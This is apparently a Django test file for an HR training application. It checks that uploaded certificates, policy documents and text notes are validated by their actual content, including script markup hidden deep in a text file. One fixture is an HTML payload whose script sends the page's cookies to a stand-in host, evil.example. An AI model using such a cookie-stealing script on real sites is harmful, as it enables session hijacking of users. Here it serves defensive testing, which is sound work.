"""Uploads are checked by their content, everywhere, to the end of a text file (issue 8 item 11)."""

from __future__ import annotations

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from cases.files import check_upload as check_attachment
from safeguard.tenancy.roles import Role
from safeguard.tenancy.uploads import content_matches
from tests.training.conftest import Setup, make_setup
from training.models import PolicyVersion, TrainingRecord

HTML = b"<!DOCTYPE html><html><body><script>fetch('https://evil.example/?c='+document.cookie)</script></body></html>"


def _hr(setup: Setup) -> Client:
    client = Client()
    client.force_login(setup.world.members[Role.HR_LD])
    return client


def _odt() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as zf:
        zf.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        zf.writestr("content.xml", "<office:document-content/>")
    return buffer.getvalue()


def test_it_refuses_an_html_file_named_pdf_as_a_training_certificate(world) -> None:
    setup = make_setup(world)
    url = reverse("training:training-add", args=[setup.worker.pk])
    response = _hr(setup).post(url, {"course": setup.course.pk, "level": 2, "completed_on": "2025-06-01",
                                     "provider": "Acme", "evidence": SimpleUploadedFile("cert.pdf", HTML)})
    page = response.content.decode()
    assert response.status_code == 200
    assert "The certificate is not a real PDF file (its contents are something else)" in page
    assert 'value="Acme"' in page
    assert not TrainingRecord.objects.for_org(world.org).exists()


def test_it_refuses_a_policy_document_whose_content_is_not_its_type_and_accepts_a_real_odt(world) -> None:
    setup = make_setup(world)
    client = _hr(setup)
    url = reverse("training:policy-publish")
    fake = client.post(url, {"label": "v1", "review_on": "2030-01-01",
                             "document": SimpleUploadedFile("policy.docx", b"PK\x03\x04 not really a zip")})
    assert "The policy document is not a real DOCX file" in fake.content.decode()
    client.post(url, {"label": "v1", "review_on": "2030-01-01", "document": SimpleUploadedFile("policy.odt", _odt())})
    assert PolicyVersion.objects.for_org(world.org).filter(label="v1").exists()


def test_it_refuses_markup_hidden_after_the_first_kilobytes_of_a_text_file() -> None:
    late = b"Notes of the visit.\n" * 500 + b"<script>alert(1)</script>\n"
    assert len(late) > 8192
    error, _ = check_attachment(SimpleUploadedFile("notes.txt", late))
    assert error and "not a real TXT file" in error
    split = b"a" * (64 * 1024 - 3) + b"<SCRIPT>"  # the marker straddles two chunks
    assert not content_matches(SimpleUploadedFile("notes.txt", split), ".txt")
    assert not content_matches(SimpleUploadedFile("notes.txt", b"ok " * 5000 + b"\xff\xfe bad"), ".txt")
    assert content_matches(SimpleUploadedFile("notes.txt", "Café visit notes. ".encode() * 5000), ".txt")
    assert check_attachment(SimpleUploadedFile("notes.txt", b"Plain notes.\n" * 1000))[0] is None
